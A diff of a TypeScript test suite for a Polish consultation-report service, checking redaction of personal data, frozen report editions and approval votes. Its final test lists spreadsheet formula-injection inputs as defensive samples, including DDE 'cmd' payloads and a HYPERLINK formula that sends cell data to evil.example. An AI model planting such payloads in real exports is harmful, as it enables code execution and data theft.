@@ -3,6 +3,7 @@ import { Workbook } from 'exceljs';
 import JSZip from 'jszip';
 import { canonicalJson } from '@commonplan/domain';
 import { documentFromJson } from '@commonplan/editor';
+import { REPRESENTATIVE_LOGINS } from '../src/demo/demo-seeder';
 import { TestServer } from './support/test-server';
 
 // pdf-parse's own entry reads a sample file when loaded as the main module: take its library file.
@@ -12,7 +13,11 @@ const pdfParse = require('pdf-parse/lib/pdf-parse.js') as (data: Buffer) => Prom
 /** Any e-mail address. */
 const EMAIL = /[\w.+-]+@[\w-]+\.[\w.-]+/;
 const SUBMITTER_EMAILS = ['anna.nowak@example.pl', 'biuro@czyste-powietrze.example', 'jan.kowalski@example.com', 'piotr@example.net', 'partner@som.example'];
+/** Phone numbers as people write them: in a private person's and an institution's text, and in a meeting's summary. */
+const PHONES = ['601 234 567', '604 567 890', '+48604567890', '0048 604 567 890', '(91) 424 12 34', '605-111-222', '+48 91 433 55 66'];
 const DAY = 24 * 60 * 60 * 1000;
+const ANNOUNCEMENT_URLS = ['https://som.example/konsultacje/strategia-2030', 'https://bip.som.example/ogloszenia/2026/12'];
+const REPORT_URL = 'https://bip.som.example/sprawozdania/2026/3';
 
 describe('the consultation report: preview, publication as frozen editions, public page and files without personal data', () => {
   let server: TestServer;
@@ -43,8 +48,15 @@ describe('the consultation report: preview, publication as frozen editions, publ
   };
   const noPersonalData = (text: string, where: string) => {
     expect({ where, email: EMAIL.exec(text)?.[0] ?? null }).toEqual({ where, email: null });
-    for (const secret of [...SUBMITTER_EMAILS, 'Anna Nowak', 'Jan Kowalski', 'Piotr Wiśniewski', '601 234 567']) expect({ where, found: text.includes(secret) ? secret : null }).toEqual({ where, found: null });
+    for (const secret of [...SUBMITTER_EMAILS, 'Anna Nowak', 'Jan Kowalski', 'Piotr Wiśniewski', 'Nowak', 'Wiśniewsk', 'ul. Długa 5', 'Długa 5', 'Pomyłka', ...PHONES]) {
+      expect({ where, found: text.includes(secret) ? secret : null }).toEqual({ where, found: null });
+    }
+    // However it was written, no phone number's digits remain.
+    const digits = text.replace(/[\s\-.()+]/g, '');
+    for (const phone of PHONES) expect({ where, phone, found: digits.includes(phone.replace(/\D/g, '').replace(/^(00)?48(?=\d{9}$)/, '')) }).toEqual({ where, phone, found: false });
   };
+  let oralMeetingId: string;
+  let approvingResolution: { id: string; number: string };
 
   beforeAll(async () => {
     server = await TestServer.start({ env: { TRUST_PROXY: 'true' } });
@@ -63,15 +75,36 @@ describe('the consultation report: preview, publication as frozen editions, publ
     });
     expect(at.diagnosis).toBeGreaterThan(0);
     expect(at.goals).toBeGreaterThan(at.diagnosis);
-    roundId = (
-      await server.request(`/api/workspaces/${ws}/rounds`, {
-        token: coordinator,
-        body: { documentId, versionId, title: 'Konsultacje Strategii SOM 2030', audiences: ['partners', 'public'], channels: ['online_form', 'post'], opensAt: new Date(Date.now() - DAY).toISOString() },
-      })
-    ).body.id;
-    await server.request(`/api/rounds/${roundId}/meetings`, { token: coordinator, body: { startsAt: new Date(Date.now() - DAY / 2).toISOString(), place: 'Szczecin, Urząd Miasta, sala sesyjna', notes: 'Spotkanie otwarte.' } });
+    const created = await server.request(`/api/workspaces/${ws}/rounds`, {
+      token: coordinator,
+      body: {
+        documentId,
+        versionId,
+        title: 'Konsultacje Strategii SOM 2030',
+        audiences: ['partners', 'public'],
+        channels: ['online_form', 'post', 'oral_protocol'],
+        opensAt: new Date(Date.now() - DAY).toISOString(),
+        announcementUrls: ANNOUNCEMENT_URLS,
+      },
+    });
+    expect(created.status).toBe(201);
+    expect(created.body.announcementUrls).toEqual(ANNOUNCEMENT_URLS);
+    roundId = created.body.id;
+    const withMeeting = await server.request(`/api/rounds/${roundId}/meetings`, {
+      token: coordinator,
+      body: { startsAt: new Date(Date.now() - DAY / 2).toISOString(), place: 'Szczecin, Urząd Miasta, sala sesyjna', notes: 'Spotkanie otwarte.' },
+    });
+    oralMeetingId = withMeeting.body.meetings[0].id;
     await server.request(`/api/rounds/${roundId}/announce`, { token: coordinator, body: {} });
     await server.request(`/api/rounds/${roundId}/open`, { token: coordinator, body: {} });
+    // After the meeting: how many came, what was said (a phone number and a name in it, as notes go), and no more.
+    const recorded = await server.request(`/api/rounds/${roundId}/meetings/${oralMeetingId}`, {
+      method: 'PATCH',
+      token: coordinator,
+      body: { participants: 48, summary: 'Dyskusja o kolei do Goleniowa. Pani Anna Nowak (tel. 605-111-222) pytała o rozkład jazdy.' },
+    });
+    expect(recorded.status).toBe(200);
+    expect(recorded.body.meetings[0]).toMatchObject({ participants: 48, notes: 'Spotkanie otwarte.' });
 
     let ip = 0;
     const send = async (key: string, body: Record<string, unknown>, path = `/api/public/rounds/${roundId}/comments`, token?: string) => {
@@ -94,7 +127,7 @@ describe('the consultation report: preview, publication as frozen editions, publ
       part: 'Rozdział 1. Diagnoza',
       passage: { from: at.diagnosis, to: at.diagnosis + 8 },
       proposedWording: 'Dodać wnioski o smogu zimowym.',
-      justification: 'Dane o przekroczeniach norm pyłu PM10.',
+      justification: 'Dane o przekroczeniach norm pyłu PM10 w latach 2021-2027 (12 mln zł na pomiary). Kontakt: tel. 604 567 890, +48604567890, 0048 604 567 890 lub (91) 424 12 34; biuro: ul. Długa 5, 70-123 Szczecin. Popieramy uwagę p. Nowak.',
       submitter: { kind: 'institution', name: 'Stowarzyszenie Czyste Powietrze', type: 'other' },
       email: 'biuro@czyste-powietrze.example',
     });
@@ -115,10 +148,39 @@ describe('the consultation report: preview, publication as frozen editions, publ
     });
     const withdrawn = await send('withdrawn', { part: 'Rozdział 3', proposedWording: 'Nic.', justification: 'Pomyłka.', submitter: { kind: 'person', name: 'Piotr Wiśniewski', type: 'resident' }, email: 'piotr@example.net' });
     expect((await server.request(`/api/public/consultation-comments/${withdrawn.id}`, { method: 'DELETE', headers: { 'x-comment-secret': withdrawn.editSecret } })).status).toBe(200);
+    // Said at the meeting, entered by staff with the meeting it came from.
+    await send(
+      'oral',
+      {
+        part: 'Rozdział 2',
+        proposedWording: 'Kolej do Goleniowa co godzinę.',
+        justification: 'Zgłoszone ustnie na spotkaniu.',
+        submitter: { kind: 'institution', name: 'Rada Osiedla Pogodno', type: 'other' },
+        channel: 'oral_protocol',
+        meetingId: oralMeetingId,
+      },
+      `/api/rounds/${roundId}/comments/entered`,
+      coordinator,
+    );
 
-    // The closing time comes (the API never closes early).
-    await server.db.query(`UPDATE consultation_rounds SET closes_at = now() - interval '1 second' WHERE id = $1`, [roundId]);
+    // The closing time comes (the API never closes early): announced 40 days ago, the statutory period is kept.
+    await server.db.query(`UPDATE consultation_rounds SET announced_at = now() - interval '40 days', closes_at = now() - interval '1 second' WHERE id = $1`, [roundId]);
     expect((await server.request(`/api/rounds/${roundId}/close`, { token: coordinator, body: {} })).status).toBe(200);
+
+    // The board adopts a resolution approving the report: a meeting, its members check in and vote.
+    const bodies = (await server.request(`/api/workspaces/${ws}/bodies`, { token: coordinator })).body as Array<{ id: string; kind: string; members: Array<{ name: string }> }>;
+    const board = bodies.find((b) => b.kind === 'board')!;
+    const resolution = (await server.request(`/api/workspaces/${ws}/resolutions`, { token: coordinator, body: { bodyId: board.id, kind: 'ordinary', title: 'w sprawie przyjęcia sprawozdania z konsultacji Strategii SOM 2030' } })).body;
+    const meeting = (await server.request(`/api/workspaces/${ws}/meetings`, { token: coordinator, body: { bodyId: board.id, title: 'Posiedzenie Zarządu', startsAt: new Date().toISOString(), place: 'Szczecin', agenda: [resolution.id] } })).body;
+    expect((await server.request(`/api/meetings/${meeting.id}/open`, { token: coordinator, body: {} })).status).toBe(200);
+    const boardTokens = await Promise.all(board.members.map((m) => server.login(`przedstawiciel.${REPRESENTATIVE_LOGINS[m.name]}@som.example`)));
+    for (const token of boardTokens) expect((await server.request(`/api/meetings/${meeting.id}/check-in`, { token, body: {} })).status).toBe(200);
+    const vote = (await server.request(`/api/resolutions/${resolution.id}/votes`, { token: coordinator, body: { meetingId: meeting.id } })).body;
+    for (const token of boardTokens) expect((await server.request(`/api/votes/${vote.id}/ballots`, { token, body: { choice: 'for' } })).status).toBe(201);
+    expect((await server.request(`/api/votes/${vote.id}/close`, { token: coordinator, body: {} })).status).toBe(200);
+    const adopted = (await server.request(`/api/resolutions/${resolution.id}`, { token: coordinator })).body;
+    expect(adopted.state).toBe('adopted');
+    approvingResolution = { id: resolution.id, number: adopted.number };
   });
   afterAll(() => server?.close());
 
@@ -130,21 +192,22 @@ describe('the consultation report: preview, publication as frozen editions, publ
 
     const preview = await server.request(`/api/rounds/${roundId}/report`, { token: expert });
     expect(preview.status).toBe(200);
-    const pending = [numbers.anna, numbers.air, numbers.partner, numbers.post, numbers.anna2];
+    const pending = [numbers.anna, numbers.air, numbers.partner, numbers.post, numbers.anna2, numbers.oral];
     expect(preview.body.blockers).toEqual({ undecided: pending, unapproved: [] });
     expect(preview.body.publishable).toEqual({ ok: false, reason: 'undecided_comments' });
-    expect(preview.body.content.statistics.byDisposition).toContainEqual({ key: 'undecided', count: 5 });
+    expect(preview.body.content.statistics.byDisposition).toContainEqual({ key: 'undecided', count: 6 });
 
     const refused = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
     expect(refused.status).toBe(409);
     expect(refused.body.undecided).toEqual(pending);
-    expect(refused.body.message).toContain('5 comments');
+    expect(refused.body.message).toContain('6 comments');
     expect(refused.body.message).toContain(numbers.anna);
 
     await decide('anna', 'partly_accepted', 'Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK.');
     await decide('air', 'accepted', 'Wnioski uzupełniono o jakość powietrza.');
     await decide('partner', 'rejected', 'Gospodarka morska jest w celu 2.');
     await decide('post', 'explanation', 'Mapa jest w załączniku 2.');
+    await decide('oral', 'rejected', 'Częstotliwość kursów ustala przewoźnik.');
     await decide('anna2', 'accepted', 'Dodano dane GUS o dojazdach.', false);
     const unapproved = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
     expect(unapproved.status).toBe(409);
@@ -179,20 +242,30 @@ describe('the consultation report: preview, publication as frozen editions, publ
     // The statistics match the comments; the withdrawn one is listed, not counted.
     const content = report.body.content;
     const counts = (rows: Array<{ key: string; count: number }>) => Object.fromEntries(rows.map((r) => [r.key, r.count]));
-    expect(content.statistics).toMatchObject({ received: 6, withdrawn: 1, considered: 5, submitters: { persons: 2, institutions: 2 } });
-    expect(counts(content.statistics.byDisposition)).toEqual({ accepted: 2, partly_accepted: 1, rejected: 1, explanation: 1 });
-    expect(counts(content.statistics.bySubmitterType)).toEqual({ resident: 3, member_jst: 0, partner_organisation: 1, other: 1 });
-    expect(counts(content.statistics.byChapter)).toEqual({ '1. Wnioski z diagnozy': 2, '2. Cele strategiczne': 2, 'Załącznik 1': 1 });
-    expect(content.mainChanges.map((c: { number: string }) => c.number)).toEqual([numbers.anna, numbers.air, numbers.anna2]);
+    expect(content.statistics).toMatchObject({ considered: 6, submitters: { persons: 2, institutions: 3 } });
+    expect(counts(content.statistics.byDisposition)).toEqual({ accepted: 2, partly_accepted: 1, rejected: 2, explanation: 1 });
+    expect(counts(content.statistics.bySubmitterType)).toEqual({ resident: 3, member_jst: 0, partner_organisation: 1, other: 2 });
+    expect(counts(content.statistics.byChapter)).toEqual({ '1. Wnioski z diagnozy': 2, '2. Cele strategiczne': 2, 'Załącznik 1': 1, 'Rozdział 2': 1 });
+    // The main changes by chapter: counts and the passages with their comments.
+    expect(content.mainChanges).toEqual([
+      { chapter: '1. Wnioski z diagnozy', accepted: 2, partlyAccepted: 0, passages: [{ comments: [numbers.air], wording: 'Dodać wnioski o smogu zimowym.', applied: false }, { comments: [numbers.anna2], wording: 'Dodać dane o dojazdach.', applied: false }] },
+      { chapter: '2. Cele strategiczne', accepted: 0, partlyAccepted: 1, passages: [{ comments: [numbers.anna], wording: 'Cel 1. Spójny system transportu publicznego z koleją aglomeracyjną do Goleniowa.', applied: false }] },
+    ]);
     const annex = Object.fromEntries(content.annex.map((e: { number: string }) => [e.number, e]));
     expect(annex[numbers.anna].submitter).toEqual({ kind: 'person', number: 1, type: 'resident' });
     expect(annex[numbers.anna2].submitter).toEqual({ kind: 'person', number: 1, type: 'resident' });
     expect(annex[numbers.post].submitter).toEqual({ kind: 'person', number: 2, type: 'resident' });
-    expect(annex[numbers.withdrawn]).toMatchObject({ withdrawn: true, disposition: null, submitter: { kind: 'person', number: 3 } });
+    // The withdrawn comment: its number apart, nothing else; no person number spent on it.
+    expect(annex[numbers.withdrawn]).toBeUndefined();
+    expect(content.withdrawn).toEqual([numbers.withdrawn]);
     expect(annex[numbers.air].submitter).toEqual({ kind: 'institution', name: 'Stowarzyszenie Czyste Powietrze', type: 'other' });
     expect(annex[numbers.partner].submitter).toEqual({ kind: 'institution', name: 'Uniwersytet Szczeciński', type: 'partner_organisation' });
     expect(annex[numbers.anna]).toMatchObject({ disposition: 'partly_accepted', dispositionJustification: 'Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK.' });
-    expect(annex[numbers.anna].justification).toBe('Dojazdy do pracy trwają zbyt długo. Odpowiedź proszę na […] lub […].');
+    expect(annex[numbers.anna].justification).toBe('Dojazdy do pracy trwają zbyt długo. Odpowiedź proszę na […] lub tel. […].');
+    // An institution's text too: every phone, the address, the private submitter named; the years and amounts stay.
+    expect(annex[numbers.air].justification).toBe(
+      'Dane o przekroczeniach norm pyłu PM10 w latach 2021-2027 (12 mln zł na pomiary). Kontakt: tel. […], […], […] lub […]; biuro: […], […]. Popieramy uwagę p. […].',
+    );
     noPersonalData(JSON.stringify(report.body), 'public JSON');
     noPersonalData(JSON.stringify((await server.request(`/api/rounds/${roundId}/report`, { token: coordinator })).body), 'staff preview JSON');
 
@@ -223,7 +296,9 @@ describe('the consultation report: preview, publication as frozen editions, publ
         texts.csv = response.body.toString('utf8');
         const lines = texts.csv.split('\r\n');
         expect(lines[0]).toBe('\uFEFFNr uwagi,Rozdział,Część dokumentu,Dotychczasowy zapis,Proponowany zapis,Uzasadnienie uwagi,Zgłaszający,Rodzaj zgłaszającego,Forma zgłoszenia,Status,Rozstrzygnięcie,Uzasadnienie rozstrzygnięcia');
-        expect(lines.filter((line) => /^U\/\d{4}\/\d{4},/.test(line))).toHaveLength(6);
+        expect(lines.filter((line) => /^U\/\d{4}\/\d{4},/.test(line))).toHaveLength(7);
+        // The withdrawn comment: its number and status, nothing else.
+        expect(lines).toContain(`${numbers.withdrawn},,,,,,,,,wycofana,,`);
         // Quoted for its semicolon, the list separator of Polish spreadsheets.
         expect(texts.csv).toContain(',"Kolej do Goleniowa jest w celu 1; harmonogram zależy od PKP PLK."');
       } else {
@@ -234,7 +309,7 @@ describe('the consultation report: preview, publication as frozen editions, publ
         workbook.worksheets.forEach((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value)))));
         texts.xlsx = cells.join(' | ');
         const annex = workbook.getWorksheet('Załącznik')!;
-        expect(annex.rowCount).toBe(7);
+        expect(annex.rowCount).toBe(8);
         expect(annex.getRow(2).getCell(1).value).toBe(numbers.anna);
       }
     }
@@ -285,6 +360,7 @@ describe('the consultation report: preview, publication as frozen editions, publ
     expect(latest.body.edition).toBe(2);
     expect(latest.body.editions.map((e: { edition: number }) => e.edition)).toEqual([1, 2]);
     expect(latest.body.content.statistics.byDisposition).toContainEqual({ key: 'partly_accepted', count: 2 });
+    expect(latest.body.content.mainChanges.map((c: { chapter: string }) => c.chapter)).toEqual(['1. Wnioski z diagnozy', '2. Cele strategiczne']);
     const first = await server.request(`/api/public/rounds/${roundId}/report?edition=1`);
     expect(first.body.content).toEqual(edition1.content);
     expect(first.body.sha256).toBe(edition1.sha256);
@@ -299,6 +375,156 @@ describe('the consultation report: preview, publication as frozen editions, publ
     expect(entry.details).toEqual({ edition: 2, sha256: second.body.sha256 });
     expect((await server.request(`/api/rounds/${roundId}`, { token: coordinator })).body.state).toBe('report_published');
   });
+  it('states the statutory period, where the announcement and the report were published, the approving resolution and the meetings, in every format and both languages', async () => {
+    const patched = await server.request(`/api/rounds/${roundId}/publication`, {
+      method: 'PATCH',
+      token: coordinator,
+      body: { reportUrls: [REPORT_URL], approvedByResolutionId: approvingResolution.id },
+    });
+    expect(patched.status).toBe(200);
+    expect(patched.body).toMatchObject({ announcementUrls: ANNOUNCEMENT_URLS, reportUrls: [REPORT_URL], approval: { resolutionId: approvingResolution.id, number: approvingResolution.number } });
+    expect(patched.body.approval.title).toBe(`Uchwała nr ${approvingResolution.number} Zarządu w sprawie przyjęcia sprawozdania z konsultacji Strategii SOM 2030`);
+    // The public announcement names where it was published.
+    const announcement = (await server.request(`/api/public/rounds/${roundId}`)).body;
+    expect(announcement).toMatchObject({ announcementUrls: ANNOUNCEMENT_URLS, reportUrls: [REPORT_URL] });
+    expect((await server.request(`/api/rounds/${roundId}/report`, { token: coordinator })).body.changedSinceLatest).toBe(true);
+    const published = await server.request(`/api/rounds/${roundId}/report/publish`, { token: coordinator, body: {} });
+    expect(published.status).toBe(201);
+    const edition = published.body.edition;
+
+    const report = (await server.request(`/api/public/rounds/${roundId}/report`)).body;
+    expect(report.edition).toBe(edition);
+    const content = report.content;
+    expect(content.format).toBe(2);
+    expect(content.statutoryPeriod).toMatchObject({ minimumDays: 35, kept: true });
+    expect(content.statutoryPeriod.days).toBeGreaterThanOrEqual(39);
+    expect(content.law).toMatchObject({ journal: { pl: 'Dz. U. z 2025 r. poz. 198' }, period: { pl: 'art. 6 ust. 5' } });
+    expect(content.publication).toEqual({ announcement: ANNOUNCEMENT_URLS, report: [REPORT_URL] });
+    expect(content.adoption).toMatchObject({ number: approvingResolution.number, body: 'Zarząd', title: patched.body.approval.title });
+    expect(content.meetings).toEqual([
+      {
+        startsAt: expect.any(String),
+        place: 'Szczecin, Urząd Miasta, sala sesyjna',
+        participants: 48,
+        summary: 'Dyskusja o kolei do Goleniowa. Pani […] (tel. […]) pytała o rozkład jazdy.',
+        comments: [numbers.oral],
+      },
+    ]);
+    expect(content.withdrawn).toEqual([numbers.withdrawn]);
+    noPersonalData(JSON.stringify(report), 'public JSON');
+    const adoptedOn = new Intl.DateTimeFormat('pl-PL', { dateStyle: 'long', timeZone: 'Europe/Warsaw' }).format(new Date(content.adoption.adoptedAt));
+    const announcedOn = new Intl.DateTimeFormat('pl-PL', { dateStyle: 'long', timeStyle: 'short', timeZone: 'Europe/Warsaw' }).format(new Date(content.round.announcedAt));
+
+    const textOf = async (format: 'pdf' | 'docx' | 'xlsx', lang: 'pl' | 'en') => {
+      const response = await file(`/api/public/rounds/${roundId}/report.${format}?lang=${lang}`);
+      expect({ format, status: response.status }).toEqual({ format, status: 200 });
+      if (format === 'pdf') return (await pdfParse(response.body)).text.replace(/\s+/g, ' ');
+      if (format === 'docx') return (await (await JSZip.loadAsync(response.body)).file('word/document.xml')!.async('string')).replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ');
+      const workbook = new Workbook();
+      await workbook.xlsx.load(response.body as unknown as ArrayBuffer);
+      const cells: string[] = [];
+      workbook.getWorksheet(lang === 'pl' ? 'Podsumowanie' : 'Summary')!.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value))));
+      return cells.join(' | ');
+    };
+    for (const format of ['pdf', 'docx', 'xlsx'] as const) {
+      const text = await textOf(format, 'pl');
+      noPersonalData(text, format);
+      for (const fact of [
+        'nie krótszy niż 35 dni od dnia ogłoszenia (art. 6 ust. 5 ustawy z dnia 6 grudnia 2006 r. o zasadach prowadzenia polityki rozwoju, Dz. U. z 2025 r. poz. 198)',
+        'termin ustawowy został dochowany',
+        announcedOn,
+        ...ANNOUNCEMENT_URLS,
+        REPORT_URL,
+        `${patched.body.approval.title} z dnia ${adoptedOn}`,
+        'partnerzy społeczni i gospodarczy',
+        'ustnie do protokołu',
+        'Szczecin, Urząd Miasta, sala sesyjna',
+        'Dyskusja o kolei do Goleniowa.',
+        numbers.oral,
+        'Uwagi wycofane przez zgłaszających',
+        numbers.withdrawn,
+        'uwzględnione: 2, częściowo uwzględnione: 0',
+      ]) {
+        // An address may wrap at a slash in the PDF: compared without spaces.
+        const found = fact.startsWith('http') ? text.replace(/\s/g, '').includes(fact) : text.includes(fact);
+        expect({ format, fact, found }).toEqual({ format, fact, found: true });
+      }
+      expect({ format, participants: /Liczba uczestników:? (\| )?48/.test(text) }).toEqual({ format, participants: true });
+      expect({ format, withdrawnText: text.includes('Pomyłka') }).toEqual({ format, withdrawnText: false });
+      const english = await textOf(format, 'en');
+      for (const fact of ['at least 35 days from the day of the announcement (Article 6(5) of the Act of 6 December 2006 on the principles of development policy', 'the statutory period was kept', 'The report was approved by', REPORT_URL, 'Participants', 'Comments withdrawn by their submitters', 'accepted: 2, partly accepted: 0']) {
+        const found = fact.startsWith('http') ? english.replace(/\s/g, '').includes(fact) : english.includes(fact);
+        expect({ format, fact, found }).toEqual({ format, fact, found: true });
+      }
+    }
+  });
+
+  it('serves an edition published before format 2 as it was sealed, and renders it in every format without a withdrawn comment’s text', async () => {
+    const documentId = (await upload(coordinator, 'stary.md', '# Plan\n\nTekst planu.')).id;
+    const versionId = (await server.request(`/api/documents/${documentId}/versions`, { token: coordinator, body: { name: 'v1' } })).body.id;
+    const old = (
+      await server.request(`/api/workspaces/${ws}/rounds`, {
+        token: coordinator,
+        body: { documentId, versionId, title: 'Konsultacje sprzed zmiany formatu', audiences: ['public'], channels: ['online_form'], opensAt: new Date(Date.now() - DAY).toISOString() },
+      })
+    ).body.id as string;
+    const entry = (number: string, withdrawn: boolean) => ({
+      number,
+      chapter: 'Plan',
+      part: 'Plan',
+      currentWording: '',
+      proposedWording: withdrawn ? 'Tekst wycofany XQ-1.' : 'Nowy zapis.',
+      justification: withdrawn ? 'Uzasadnienie wycofane XQ-2.' : 'Bo tak.',
+      submitter: { kind: 'person', number: withdrawn ? 2 : 1, type: 'resident' },
+      channel: 'online_form',
+      withdrawn,
+      disposition: withdrawn ? null : 'accepted',
+      dispositionJustification: withdrawn ? null : 'Przyjęto.',
+    });
+    const count = (key: string, n: number) => ({ key, count: n });
+    const v1 = {
+      format: 1,
+      edition: 1,
+      publishedAt: '2026-11-20T10:00:00.000Z',
+      organiser: 'Stowarzyszenie',
+      round: { id: old, title: 'Konsultacje sprzed zmiany formatu', legalBasis: 'art. 6', audiences: ['public'], channels: ['online_form'], announcedAt: '2026-10-01T08:00:00.000Z', opensAt: '2026-10-01T08:00:00.000Z', closesAt: '2026-11-05T08:00:00.000Z', closedAt: '2026-11-05T09:00:00.000Z', reportDueAt: '2026-12-05T08:00:00.000Z' },
+      document: { title: 'Plan', kind: 'other', version: { number: 1, name: 'v1', contentHash: 'ab'.repeat(32) } },
+      meetings: [],
+      statistics: {
+        received: 2,
+        withdrawn: 1,
+        considered: 1,
+        submitters: { persons: 1, institutions: 0 },
+        byDisposition: [count('accepted', 1), count('partly_accepted', 0), count('rejected', 0), count('explanation', 0)],
+        bySubmitterType: [count('resident', 1), count('member_jst', 0), count('partner_organisation', 0), count('other', 0)],
+        byChannel: [count('online_form', 1)],
+        byChapter: [count('Plan', 1)],
+      },
+      mainChanges: [{ number: 'U/2026/9001', chapter: 'Plan', part: 'Plan', disposition: 'accepted', proposedWording: 'Nowy zapis.', dispositionJustification: 'Przyjęto.', appliedWording: null }],
+      annex: [entry('U/2026/9001', false), entry('U/2026/9002', true)],
+    };
+    const sha256 = createHash('sha256').update(canonicalJson(v1)).digest('hex');
+    await server.db.query(`INSERT INTO consultation_reports (round_id, edition, content, sha256, published_at) VALUES ($1, 1, $2, $3, $4)`, [old, JSON.stringify(v1), sha256, v1.publishedAt]);
+
+    const served = await server.request(`/api/public/rounds/${old}/report`);
+    expect(served.status).toBe(200);
+    expect(served.body.content).toEqual(v1);
+    expect(createHash('sha256').update(canonicalJson(served.body.content)).digest('hex')).toBe(sha256);
+    for (const format of ['pdf', 'docx', 'csv', 'xlsx']) {
+      const response = await file(`/api/public/rounds/${old}/report.${format}`);
+      expect({ format, status: response.status }).toEqual({ format, status: 200 });
+    }
+    const pdf = (await pdfParse((await file(`/api/public/rounds/${old}/report.pdf`)).body)).text.replace(/\s+/g, ' ');
+    expect(pdf).toContain('U/2026/9002');
+    expect(pdf).toContain('Nowy zapis.');
+    expect(pdf).not.toContain('XQ-');
+    // Announced, but it recorded no statutory period or approval: said so, neither made up.
+    expect(pdf.match(/nie podano w tym wydaniu sprawozdania/g)).toHaveLength(2);
+    expect(pdf).not.toContain('nie zostały jeszcze ogłoszone');
+    expect(pdf).not.toContain('nie zostało przyjęte uchwałą');
+    expect((await file(`/api/public/rounds/${old}/report.csv`)).body.toString('utf8')).not.toContain('XQ-');
+  });
+
   it('writes no cell that a spreadsheet would run as a formula: staff CSV and XLSX, public CSV and XLSX', async () => {
     const INJECTIONS = ["-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '＝1+1', '+1+1'];
     const documentId = (await upload(coordinator, 'formuly.md', '# Plan\n\nTekst planu.')).id;
